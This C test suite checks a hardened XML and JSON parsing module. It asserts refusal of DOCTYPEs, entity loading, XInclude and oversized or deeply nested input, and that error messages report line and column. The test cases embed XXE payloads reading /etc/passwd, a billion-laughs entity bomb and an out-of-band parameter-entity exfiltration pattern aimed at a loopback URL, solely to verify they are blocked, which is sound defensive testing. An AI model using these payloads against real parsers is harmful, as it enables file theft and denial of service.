/*
 * test_safeparse.c - hub/safeparse.c: the safe XML and JSON parsers.
 *
 * XML: every DOCTYPE is refused (internal-subset XXE, external DTD by file
 * and by network URL, billion laughs, parameter entities), the process-wide
 * entity loader denies files, XInclude is not processed, depth and size are
 * bounded, errors name line:column, nothing is printed on stderr, errors
 * stay per call under threads; namespaced, UTF-8 and realistic documents
 * parse. JSON: duplicate keys (named), invalid UTF-8, NUL, depth (brackets
 * in strings do not count), size, line:column, the published Open311
 * examples with leading zeros.
 *
 * Fixtures: tests/data/fixtures/ (copies, see the README there). Threads:
 * test_xml_errors_per_thread starts 4 threads that each own their buffers.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include <libxml/parser.h>
#include <libxml/parserInternals.h>
#include <libxml/tree.h>
#include "safeparse.h"
#include "testsupport.h"

/* ---- helpers --------------------------------------------------------------- */

static char *read_fixture(const char *rel, size_t *len)
{
    char rp[512];
    snprintf(rp, sizeof rp, "tests/data/fixtures/%s", rel);
    const char *path = ts_source_path(rp);
    FILE *f = fopen(path, "rb");
    if (!f) fail_msg("cannot open fixture %s", path);
    fseek(f, 0, SEEK_END);
    long n = ftell(f);
    fseek(f, 0, SEEK_SET);
    char *buf = malloc((size_t)n + 1);
    assert_non_null(buf);
    assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
    buf[n] = '\0';
    fclose(f);
    *len = (size_t)n;
    return buf;
}

static xmlDocPtr xml(const char *text, const char *name, char *err, size_t errlen)
{
    return relais_xml_parse(text, strlen(text), name, NULL, err, errlen);
}

static json_t *js(const char *text, const char *name, char *err, size_t errlen)
{
    return relais_json_parse(text, strlen(text), name, NULL, err, errlen);
}

static void assert_contains(const char *s, const char *part)
{
    if (!strstr(s, part)) fail_msg("'%s' does not contain '%s'", s, part);
}

static void assert_starts(const char *s, const char *prefix)
{
    if (strncmp(s, prefix, strlen(prefix)) != 0) fail_msg("'%s' does not start with '%s'", s, prefix);
}

/* "name:L:C: " with L, C > 0 */
static void assert_line_col(const char *err, const char *name, int line)
{
    int l = 0, c = 0, n = 0;
    size_t k = strlen(name);
    if (strncmp(err, name, k) != 0 || sscanf(err + k, ":%d:%d: %n", &l, &c, &n) != 2 || n == 0)
        fail_msg("'%s' has no %s:line:column:", err, name);
    assert_int_equal(l, line);
    assert_true(c > 0);
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* A temp file holding a unique marker; the marker must never show up. */
#define SECRET "RELAIS-SECRET-7f3a9c"

static const char *secret_file(void)
{
    return ts_write_temp(".txt", SECRET "\n");
}

static char *nested_xml(int depth)
{
    char *b = malloc((size_t)depth * 7 + 1);
    size_t o = 0;
    for (int i = 0; i < depth; i++) { memcpy(b + o, "<e>", 3); o += 3; }
    for (int i = 0; i < depth; i++) { memcpy(b + o, "</e>", 4); o += 4; }
    b[o] = '\0';
    return b;
}

static char *nested_json(int depth)
{
    char *b = malloc((size_t)depth * 2 + 1);
    for (int i = 0; i < depth; i++) b[i] = '[';
    for (int i = 0; i < depth; i++) b[depth + i] = ']';
    b[depth * 2] = '\0';
    return b;
}

/* ---- XML: DOCTYPE, entities, DTDs --------------------------------------------- */

static void test_xml_xxe_internal_subset(void **state)
{
    (void)state;
    char err[512], doc[1024];
    const char *cases[] = { "file:///etc/passwd", NULL };
    cases[1] = secret_file();
    for (int i = 0; i < 2; i++) {
        snprintf(doc, sizeof doc,
                 "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n  <!ENTITY x SYSTEM \"%s%s\">\n]>\n"
                 "<r>&x;</r>\n", i == 1 ? "file://" : "", cases[i]);
        xmlDocPtr d = xml(doc, "drop/x.xml", err, sizeof err);
        assert_null(d);
        assert_line_col(err, "drop/x.xml", 2);
        assert_contains(err, "DOCTYPE refused (no DTDs or entities are accepted)");
        assert_null(strstr(err, "root:"));
        assert_null(strstr(err, SECRET));
    }
    /* an internal entity without any file: still refused (the DOCTYPE is) */
    assert_null(xml("<!DOCTYPE r [<!ENTITY x \"y\">]><r>&x;</r>", "b", err, sizeof err));
    assert_string_equal(err, "b:1:13: DOCTYPE refused (no DTDs or entities are accepted)");
}

static void test_xml_external_dtd_refused(void **state)
{
    (void)state;
    char err[512], doc[1024];
    /* a DTD that would add an attribute and an entity holding the secret */
    char *dtd = ts_write_temp(".dtd", "<!ATTLIST r leak CDATA \"" SECRET "\">\n"
                                      "<!ENTITY s \"" SECRET "\">\n");
    snprintf(doc, sizeof doc, "<?xml version=\"1.0\"?>\n<!DOCTYPE r SYSTEM \"%s\">\n<r>&s;</r>", dtd);
    assert_null(xml(doc, "ext.xml", err, sizeof err));
    assert_line_col(err, "ext.xml", 2);
    assert_contains(err, "DOCTYPE refused");
    assert_null(strstr(err, SECRET));
    /* a PUBLIC id with a file system id too */
    snprintf(doc, sizeof doc, "<!DOCTYPE r PUBLIC \"-//X//DTD X//EN\" \"file://%s\"><r/>", dtd);
    assert_null(xml(doc, "ext.xml", err, sizeof err));
    assert_contains(err, "DOCTYPE refused");
}

static void test_entity_loader_denies_everything(void **state)
{
    (void)state;
    relais_safeparse_init();
    relais_safeparse_init();   /* harmless twice */
    const char *path = secret_file();
    char url[600];
    snprintf(url, sizeof url, "file://%s", path);
    /* any libxml2 code in the process: a file read through the loader fails */
    xmlParserCtxtPtr ctxt = xmlNewParserCtxt();
    assert_non_null(ctxt);
    assert_null(xmlLoadExternalEntity(path, NULL, ctxt));
    assert_null(xmlLoadExternalEntity(url, NULL, ctxt));
    assert_null(xmlLoadExternalEntity("http://127.0.0.1:9/x.dtd", NULL, ctxt));
    xmlFreeParserCtxt(ctxt);
    char *xmlfile = ts_write_temp(".xml", "<r>" SECRET "</r>");
    xmlDocPtr d = xmlReadFile(xmlfile, NULL, XML_PARSE_NOERROR | XML_PARSE_NOWARNING);
    assert_null(d);
}

static void test_xml_billion_laughs(void **state)
{
    (void)state;
    char err[512];
    const char *bomb =
        "<?xml version=\"1.0\"?>\n"
        "<!DOCTYPE lolz [\n"
        " <!ENTITY lol \"lol\">\n"
        " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
        " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
        " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
        " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
        " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
        " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
        " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
        " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
        " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
        "]>\n"
        "<lolz>&lol9;&lol9;&lol9;&lol9;</lolz>\n";
    double t0 = now_s();
    for (int i = 0; i < 100; i++) {
        assert_null(xml(bomb, "bomb.xml", err, sizeof err));
        assert_line_col(err, "bomb.xml", 2);
        assert_contains(err, "DOCTYPE refused");
    }
    assert_true(now_s() - t0 < 2.0);   /* 100 refusals, each before any expansion */
}

static void test_xml_parameter_entities(void **state)
{
    (void)state;
    char err[512], doc[1024];
    snprintf(doc, sizeof doc,
             "<!DOCTYPE r [\n <!ENTITY %% p SYSTEM \"file://%s\">\n %%p;\n]>\n<r/>", secret_file());
    assert_null(xml(doc, "pe.xml", err, sizeof err));
    assert_contains(err, "DOCTYPE refused");
    assert_null(strstr(err, SECRET));
    /* the classic out-of-band pattern: a parameter entity building an entity */
    const char *oob =
        "<!DOCTYPE r [\n"
        " <!ENTITY % file SYSTEM \"file:///etc/hostname\">\n"
        " <!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>\">\n"
        " %eval;\n %exfil;\n]>\n<r/>";
    assert_null(xml(oob, "oob.xml", err, sizeof err));
    assert_contains(err, "DOCTYPE refused");
}

static void test_xml_network_dtd(void **state)
{
    (void)state;
    /* a listener that must never see a connection */
    int lfd = socket(AF_INET, SOCK_STREAM, 0);
    assert_true(lfd >= 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    assert_int_equal(bind(lfd, (struct sockaddr *)&a, sizeof a), 0);
    socklen_t al = sizeof a;
    assert_int_equal(getsockname(lfd, (struct sockaddr *)&a, &al), 0);
    assert_int_equal(listen(lfd, 4), 0);
    int port = ntohs(a.sin_port);

    char err[512], doc[1024];
    snprintf(doc, sizeof doc, "<!DOCTYPE r SYSTEM \"http://127.0.0.1:%d/x.dtd\"><r/>", port);
    assert_null(xml(doc, "net.xml", err, sizeof err));
    assert_contains(err, "DOCTYPE refused");
    snprintf(doc, sizeof doc,
             "<!DOCTYPE r [<!ENTITY e SYSTEM \"http://127.0.0.1:%d/e\">]><r>&e;</r>", port);
    assert_null(xml(doc, "net.xml", err, sizeof err));
    assert_contains(err, "DOCTYPE refused");

    struct pollfd p = { .fd = lfd, .events = POLLIN };
    assert_int_equal(poll(&p, 1, 50), 0);   /* nobody connected */
    close(lfd);
}

static void test_xml_xinclude_not_processed(void **state)
{
    (void)state;
    char err[512], doc[1024];
    snprintf(doc, sizeof doc,
             "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
             "<xi:include href=\"%s\" parse=\"text\"/></r>", secret_file());
    xmlDocPtr d = xml(doc, "xi.xml", err, sizeof err);
    assert_non_null(d);
    xmlNodePtr inc = xmlFirstElementChild(xmlDocGetRootElement(d));
    assert_non_null(inc);
    assert_string_equal((const char *)inc->name, "include");
    assert_non_null(inc->ns);
    assert_string_equal((const char *)inc->ns->href, "http://www.w3.org/2001/XInclude");
    xmlChar *out = NULL;
    int n = 0;
    xmlDocDumpMemory(d, &out, &n);
    assert_non_null(out);
    assert_null(strstr((const char *)out, SECRET));
    xmlFree(out);
    xmlFreeDoc(d);
}

static void test_xml_undefined_entity_refused(void **state)
{
    (void)state;
    char err[512];
    assert_null(xml("<r>\n&x;</r>", "u.xml", err, sizeof err));
    assert_line_col(err, "u.xml", 2);
    assert_contains(err, "Entity 'x' not defined");
    /* predefined and character references are fine */
    xmlDocPtr d = xml("<r>&lt;&amp;&#233;&#x2603;</r>", "ok.xml", err, sizeof err);
    assert_non_null(d);
    xmlChar *t = xmlNodeGetContent(xmlDocGetRootElement(d));
    assert_string_equal((const char *)t, "<&\xc3\xa9\xe2\x98\x83");
    xmlFree(t);
    xmlFreeDoc(d);
}

/* ---- XML: limits and errors ------------------------------------------------------ */

static void test_xml_depth(void **state)
{
    (void)state;
    char err[512];
    char *ok = nested_xml(64), *deep = nested_xml(65);
    xmlDocPtr d = xml(ok, "d.xml", err, sizeof err);
    assert_non_null(d);
    xmlFreeDoc(d);
    assert_null(xml(deep, "d.xml", err, sizeof err));
    assert_string_equal(err, "d.xml:1:195: nesting deeper than 64 levels");
    /* a smaller limit, on its own line */
    relais_parse_limits lim = { .max_depth = 2 };
    const char *three = "<a>\n <b>\n  <c/>\n </b>\n</a>";
    assert_null(relais_xml_parse(three, strlen(three), "d.xml", &lim, err, sizeof err));
    assert_string_equal(err, "d.xml:3:5: nesting deeper than 2 levels");
    lim.max_depth = 3;
    d = relais_xml_parse(three, strlen(three), "d.xml", &lim, err, sizeof err);
    assert_non_null(d);
    xmlFreeDoc(d);
    free(ok);
    free(deep);
}

static void test_xml_size(void **state)
{
    (void)state;
    char err[512];
    relais_parse_limits lim = { .max_bytes = 20 };
    const char *doc20 = "<r>0123456789abc</r>";   /* 20 bytes */
    assert_int_equal(strlen(doc20), 20);
    xmlDocPtr d = relais_xml_parse(doc20, 20, "s.xml", &lim, err, sizeof err);
    assert_non_null(d);
    xmlFreeDoc(d);
    const char *doc21 = "<r>0123456789abcd</r>";
    assert_null(relais_xml_parse(doc21, 21, "s.xml", &lim, err, sizeof err));
    assert_string_equal(err, "s.xml: 21 bytes, larger than the 20 allowed");
    /* the default: 16 MiB, refused before parsing (the bytes are not even XML) */
    size_t big = (size_t)16 * 1024 * 1024 + 1;
    char *b = calloc(1, big);
    assert_non_null(b);
    double t0 = now_s();
    assert_null(relais_xml_parse(b, big, "request body", NULL, err, sizeof err));
    assert_string_equal(err, "request body: 16777217 bytes, larger than the 16777216 allowed");
    assert_null(relais_json_parse(b, big, "body", NULL, err, sizeof err));
    assert_string_equal(err, "body: 16777217 bytes, larger than the 16777216 allowed");
    assert_true(now_s() - t0 < 1.0);
    free(b);
}

static void test_xml_malformed_line_column(void **state)
{
    (void)state;
    char err[512];
    assert_null(xml("<a>\n  <b></a>", "request body", err, sizeof err));
    assert_line_col(err, "request body", 2);
    assert_contains(err, "Opening and ending tag mismatch");
    assert_null(strchr(err, '\n'));
    assert_null(xml("<a>\n\n<b attr=x/></a>", "m.xml", err, sizeof err));
    assert_line_col(err, "m.xml", 3);
    assert_null(xml("", "empty.xml", err, sizeof err));
    assert_string_equal(err, "empty.xml:1:1: Document is empty");
    assert_null(xml("<a/>\n<b/>", "two.xml", err, sizeof err));
    assert_line_col(err, "two.xml", 2);
    assert_contains(err, "Extra content");
    /* an undeclared namespace prefix is an error, not a warning we let through */
    assert_null(xml("<r>\n<p:a/></r>", "ns.xml", err, sizeof err));
    assert_line_col(err, "ns.xml", 2);
    assert_contains(err, "Namespace prefix p");
    /* no name given */
    assert_null(relais_xml_parse("<a>", 3, NULL, NULL, err, sizeof err));
    assert_starts(err, "input:1:");
}

static void test_xml_no_stderr(void **state)
{
    (void)state;
    char err[512];
    fflush(stderr);
    char *path = ts_write_temp(".log", "");
    int fd = open(path, O_WRONLY | O_TRUNC);
    assert_true(fd >= 0);
    int saved = dup(2);
    dup2(fd, 2);
    close(fd);
    assert_null(xml("<a>\n  <b></a>", "q.xml", err, sizeof err));
    assert_null(xml("<r>\n<p:a/></r>", "q.xml", err, sizeof err));
    assert_null(xml("<?xml version=\"1.0\" encoding=\"UTF-8\"?><r>\xff\xfe</r>", "q.xml", err, sizeof err));
    assert_null(xml("<?xml version=\"1.0\" encoding=\"no-such-charset\"?><r/>", "q.xml", err, sizeof err));
    assert_null(xml("<?xml version=\"1.0\" encoding=\"windows-1252\"?><r>\x81\x8d</r>", "q.xml", err,
                    sizeof err));
    assert_null(xml("<!DOCTYPE r [<!ENTITY x \"y\">]><r>&x;</r>", "q.xml", err, sizeof err));
    fflush(stderr);
    dup2(saved, 2);
    close(saved);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    fseek(f, 0, SEEK_END);
    long n = ftell(f);
    fclose(f);
    assert_int_equal(n, 0);
}

static void test_xml_encoding_errors(void **state)
{
    (void)state;
    char err[512];
    assert_null(xml("<r>\n ok \xff</r>", "enc.xml", err, sizeof err));
    assert_line_col(err, "enc.xml", 2);
    assert_contains(err, "UTF-8");
    json_t *s = json_string(err);   /* the error text itself is valid UTF-8 */
    assert_non_null(s);
    json_decref(s);
    /* bytes the declared charset cannot convert: libxml2 raises that without
     * a parser context; it is still the error reported (not the "Premature
     * end of data" that follows it) */
    assert_null(xml("<?xml version=\"1.0\" encoding=\"windows-1252\"?>\n<r>\x81\x8d</r>", "w.xml",
                    err, sizeof err));
    assert_line_col(err, "w.xml", 1);   /* where libxml2 was when it converted */
    assert_contains(err, "input conversion failed");
    /* a declared Latin-1 document is converted to UTF-8 */
    xmlDocPtr d = xml("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r>\xe9t\xe9</r>", "l1.xml",
                      err, sizeof err);
    assert_non_null(d);
    xmlChar *t = xmlNodeGetContent(xmlDocGetRootElement(d));
    assert_string_equal((const char *)t, "\xc3\xa9t\xc3\xa9");
    xmlFree(t);
    xmlFreeDoc(d);
}

/* ---- XML: documents that must parse --------------------------------------------- */

static void test_xml_namespaces(void **state)
{
    (void)state;
    char err[512];
    size_t len;
    char *buf = read_fixture("payfip/samples/creerPaiementSecurise.soap-envelope.xml", &len);
    xmlDocPtr d = relais_xml_parse(buf, len, "envelope.xml", NULL, err, sizeof err);
    if (!d) fail_msg("%s", err);
    xmlNodePtr root = xmlDocGetRootElement(d);
    assert_string_equal((const char *)root->name, "Envelope");
    assert_string_equal((const char *)root->ns->href, "http://schemas.xmlsoap.org/soap/envelope/");
    xmlNodePtr body = xmlFirstElementChild(root);
    body = xmlNextElementSibling(body);
    assert_string_equal((const char *)body->name, "Body");
    xmlNodePtr op = xmlFirstElementChild(body);
    assert_string_equal((const char *)op->name, "creerPaiementSecurise");
    assert_string_equal((const char *)op->ns->prefix, "pai");
    xmlNodePtr arg0 = xmlFirstElementChild(op);
    assert_null(arg0->ns);   /* unqualified children */
    xmlFreeDoc(d);
    free(buf);
}

static void test_xml_utf8_and_cdata(void **state)
{
    (void)state;
    char err[512];
    xmlDocPtr d = xml("<a t=\"\xc3\xa7\xc3\xa0\">\xc3\xa9t\xc3\xa9 \xe2\x98\x83 \xf0\x9d\x84\x9e</a>",
                      "u.xml", err, sizeof err);
    assert_non_null(d);
    xmlNodePtr a = xmlDocGetRootElement(d);
    xmlChar *t = xmlNodeGetContent(a);
    assert_string_equal((const char *)t, "\xc3\xa9t\xc3\xa9 \xe2\x98\x83 \xf0\x9d\x84\x9e");
    xmlFree(t);
    t = xmlGetProp(a, BAD_CAST "t");
    assert_string_equal((const char *)t, "\xc3\xa7\xc3\xa0");
    xmlFree(t);
    xmlFreeDoc(d);
    /* CDATA comes back as plain text */
    d = xml("<a><![CDATA[x < y & z]]></a>", "c.xml", err, sizeof err);
    assert_non_null(d);
    a = xmlDocGetRootElement(d);
    assert_non_null(a->children);
    assert_int_equal(a->children->type, XML_TEXT_NODE);
    assert_string_equal((const char *)a->children->content, "x < y & z");
    xmlFreeDoc(d);
}

static void test_xml_realistic_document(void **state)
{
    (void)state;
    char err[512];
    size_t len;
    char *buf = read_fixture("cityweb/samples/demande_acte_naissance_synthetic.xml", &len);
    xmlDocPtr d = relais_xml_parse(buf, len, "demande.xml", NULL, err, sizeof err);
    if (!d) fail_msg("%s", err);
    xmlNodePtr root = xmlDocGetRootElement(d);
    assert_string_equal((const char *)root->name, "demandeEtatCivil");
    xmlChar *v = xmlGetProp(root, BAD_CAST "version");
    assert_string_equal((const char *)v, "1.0");
    xmlFree(v);
    assert_non_null(xmlFirstElementChild(root));
    xmlFreeDoc(d);
    free(buf);
}

typedef struct thread_arg {
    int  id;
    int  failures;
} thread_arg;

static void *parse_many(void *p)
{
    thread_arg *a = p;
    char doc[128], err[256], want[64];
    for (int i = 0; i < 200; i++) {
        int line = a->id * 10 + (i % 5) + 2;
        size_t o = (size_t)snprintf(doc, sizeof doc, "<t%d>", a->id);
        for (int k = 1; k < line && o + 1 < sizeof doc; k++) doc[o++] = '\n';
        snprintf(doc + o, sizeof doc - o, "<x></t%d>", a->id);
        xmlDocPtr d = relais_xml_parse(doc, strlen(doc), "t.xml", NULL, err, sizeof err);
        snprintf(want, sizeof want, "t.xml:%d:", line);
        if (d || strncmp(err, want, strlen(want)) != 0) a->failures++;
        xmlFreeDoc(d);
        if (i % 3 == 0) {
            json_t *j = relais_json_parse("{\"a\":1,\"a\":2}", 13, "j", NULL, err, sizeof err);
            if (j || strcmp(err, "j:1:10: duplicate object key 'a'") != 0) a->failures++;
        }
    }
    return NULL;
}

static void test_xml_errors_per_thread(void **state)
{
    (void)state;
    pthread_t th[4];
    thread_arg args[4];
    for (int i = 0; i < 4; i++) {
        args[i] = (thread_arg){ .id = i };
        assert_int_equal(pthread_create(&th[i], NULL, parse_many, &args[i]), 0);
    }
    for (int i = 0; i < 4; i++) {
        pthread_join(th[i], NULL);
        assert_int_equal(args[i].failures, 0);
    }
}

/* ---- JSON ----------------------------------------------------------------------- */

static void test_json_duplicate_key(void **state)
{
    (void)state;
    char err[512];
    assert_null(js("{\"a\":1,\"a\":2}", "body", err, sizeof err));
    assert_string_equal(err, "body:1:10: duplicate object key 'a'");
    assert_null(js("{\"x\": {\n  \"k\\\"y\": 1,\n  \"k\\\"y\": 2}}", "b.json", err, sizeof err));
    assert_string_equal(err, "b.json:3:8: duplicate object key 'k\"y'");
    /* the same key in two different objects is fine */
    json_t *v = js("[{\"a\":1},{\"a\":2}]", "ok", err, sizeof err);
    assert_non_null(v);
    json_decref(v);
}

static void test_json_invalid_utf8(void **state)
{
    (void)state;
    char err[512];
    const char *bad[] = { "[\"\xff\"]", "[\"\xc0\xaf\"]", "[\"\xed\xa0\x80\"]", "{\"\xe9t\xe9\":1}",
                          "[\"\xe2\x98\"]" };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        assert_null(js(bad[i], "u.json", err, sizeof err));
        assert_line_col(err, "u.json", 1);
        json_t *s = json_string(err);   /* the message itself is clean UTF-8 */
        assert_non_null(s);
        json_decref(s);
    }
    json_t *v = js("[\"\xc3\xa9t\xc3\xa9 \xf0\x9d\x84\x9e\"]", "ok", err, sizeof err);
    assert_non_null(v);
    assert_string_equal(json_string_value(json_array_get(v, 0)), "\xc3\xa9t\xc3\xa9 \xf0\x9d\x84\x9e");
    json_decref(v);
}

static void test_json_nul(void **state)
{
    (void)state;
    char err[512];
    assert_null(js("{\"a\":\"x\\u0000y\"}", "n.json", err, sizeof err));
    assert_line_col(err, "n.json", 1);
    assert_contains(err, "\\u0000");
    assert_null(js("{\"a\\u0000\":1}", "n.json", err, sizeof err));
    assert_contains(err, "\\u0000");
    /* a raw NUL byte in the buffer */
    assert_null(relais_json_parse("[\"a\0b\"]", 7, "n.json", NULL, err, sizeof err));
    assert_line_col(err, "n.json", 1);
    assert_null(relais_json_parse("[1]\0", 4, "n.json", NULL, err, sizeof err));
}

static void test_json_depth(void **state)
{
    (void)state;
    char err[512];
    char *ok = nested_json(64), *deep = nested_json(65);
    json_t *v = js(ok, "d.json", err, sizeof err);
    assert_non_null(v);
    json_decref(v);
    assert_null(js(deep, "d.json", err, sizeof err));
    assert_string_equal(err, "d.json:1:65: nesting deeper than 64 levels");
    free(ok);
    free(deep);
    /* objects count too; the position is the bracket too deep */
    relais_parse_limits lim = { .max_depth = 2 };
    const char *three = "{\"a\":\n  {\"b\": [1]}}";
    assert_null(relais_json_parse(three, strlen(three), "d.json", &lim, err, sizeof err));
    assert_string_equal(err, "d.json:2:9: nesting deeper than 2 levels");
    lim.max_depth = 3;
    v = relais_json_parse(three, strlen(three), "d.json", &lim, err, sizeof err);
    assert_non_null(v);
    json_decref(v);
    /* brackets inside strings do not count, escaped quotes do not end strings */
    char buf[400];
    size_t n = 0;
    for (int i = 0; i < 63; i++) buf[n++] = '[';
    const char *s = "\"[[[{{\\\"[[\"";
    memcpy(buf + n, s, strlen(s));
    n += strlen(s);
    for (int i = 0; i < 63; i++) buf[n++] = ']';
    v = relais_json_parse(buf, n, "s.json", NULL, err, sizeof err);
    if (!v) fail_msg("%s", err);
    json_decref(v);
    /* a deep nesting attack is stopped by the scan, not by jansson's 2048 */
    char *huge = nested_json(100000);
    double t0 = now_s();
    assert_null(js(huge, "h.json", err, sizeof err));
    assert_string_equal(err, "h.json:1:65: nesting deeper than 64 levels");
    assert_true(now_s() - t0 < 1.0);
    free(huge);
}

static void test_json_size(void **state)
{
    (void)state;
    char err[512];
    relais_parse_limits lim = { .max_bytes = 9 };
    json_t *v = relais_json_parse("[1,2,3,4]", 9, "s.json", &lim, err, sizeof err);
    assert_non_null(v);
    json_decref(v);
    assert_null(relais_json_parse("[1,2,3,45]", 10, "s.json", &lim, err, sizeof err));
    assert_string_equal(err, "s.json: 10 bytes, larger than the 9 allowed");
}

static void test_json_errors_line_column(void **state)
{
    (void)state;
    char err[512];
    assert_null(js("{\"a\": 1,\n  \"b\": }", "body", err, sizeof err));
    assert_string_equal(err, "body:2:8: unexpected token near '}'");
    assert_null(js("{\"k\":\"v\"} {}", "body", err, sizeof err));
    assert_string_equal(err, "body:1:11: end of file expected near '{'");
    assert_null(js("", "empty", err, sizeof err));
    assert_starts(err, "empty:1:1: ");
    assert_null(relais_json_parse(NULL, 0, NULL, NULL, err, sizeof err));
    assert_starts(err, "input:1:1: ");
    /* a control character in jansson's message is not copied out raw */
    assert_null(js("[\x01]", "c", err, sizeof err));
    assert_string_equal(err, "c:1:2: invalid token near '?'");
    /* any JSON value may be at the top */
    const char *scalars[] = { "42", "\"s\"", "null", " true ", "[]" };
    for (size_t i = 0; i < 5; i++) {
        json_t *v = js(scalars[i], "v", err, sizeof err);
        if (!v) fail_msg("%s: %s", scalars[i], err);
        json_decref(v);
    }
}

/* Messages never quote the input's text (it may be personal data): jansson's
 * "near '<token>'" is kept for one character only. */
static void test_json_errors_do_not_quote_input(void **state)
{
    (void)state;
    char err[512];
    assert_null(js("{\"nom\": \"Dupont-Lefebvre", "body", err, sizeof err));
    assert_null(strstr(err, "Dupont"));
    assert_contains(err, "near a string (not quoted");
    assert_null(js("{\"tel\": 0612345678}", "body", err, sizeof err));
    assert_null(strstr(err, "612345678"));
    assert_null(js("{\"a\": truex}", "body", err, sizeof err));
    assert_null(strstr(err, "truex"));
    assert_null(js("{\"a\": 1,}", "body", err, sizeof err));
    assert_contains(err, "near '}'");
}

static void test_json_open311(void **state)
{
    (void)state;
    const char *names[] = { "services.json", "requests.json", "request.json" };
    for (int i = 0; i < 3; i++) {
        char rel[128], err[512];
        size_t len;
        snprintf(rel, sizeof rel, "open311/invalid/%s", names[i]);
        char *buf = read_fixture(rel, &len);
        assert_null(relais_json_parse(buf, len, names[i], NULL, err, sizeof err));
        assert_contains(err, "invalid token near '0'");   /* the leading zero (one character: shown) */
        free(buf);
        snprintf(rel, sizeof rel, "open311/examples/%s", names[i]);
        buf = read_fixture(rel, &len);
        json_t *v = relais_json_parse(buf, len, names[i], NULL, err, sizeof err);
        if (!v) fail_msg("%s: %s", rel, err);
        assert_true(json_is_array(v));
        json_decref(v);
        free(buf);
    }
}

int main(void)
{
    relais_safeparse_init();
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_xml_xxe_internal_subset),
        cmocka_unit_test(test_xml_external_dtd_refused),
        cmocka_unit_test(test_entity_loader_denies_everything),
        cmocka_unit_test(test_xml_billion_laughs),
        cmocka_unit_test(test_xml_parameter_entities),
        cmocka_unit_test(test_xml_network_dtd),
        cmocka_unit_test(test_xml_xinclude_not_processed),
        cmocka_unit_test(test_xml_undefined_entity_refused),
        cmocka_unit_test(test_xml_depth),
        cmocka_unit_test(test_xml_size),
        cmocka_unit_test(test_xml_malformed_line_column),
        cmocka_unit_test(test_xml_no_stderr),
        cmocka_unit_test(test_xml_encoding_errors),
        cmocka_unit_test(test_xml_namespaces),
        cmocka_unit_test(test_xml_utf8_and_cdata),
        cmocka_unit_test(test_xml_realistic_document),
        cmocka_unit_test(test_xml_errors_per_thread),
        cmocka_unit_test(test_json_duplicate_key),
        cmocka_unit_test(test_json_invalid_utf8),
        cmocka_unit_test(test_json_nul),
        cmocka_unit_test(test_json_depth),
        cmocka_unit_test(test_json_size),
        cmocka_unit_test(test_json_errors_line_column),
        cmocka_unit_test(test_json_errors_do_not_quote_input),
        cmocka_unit_test(test_json_open311),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
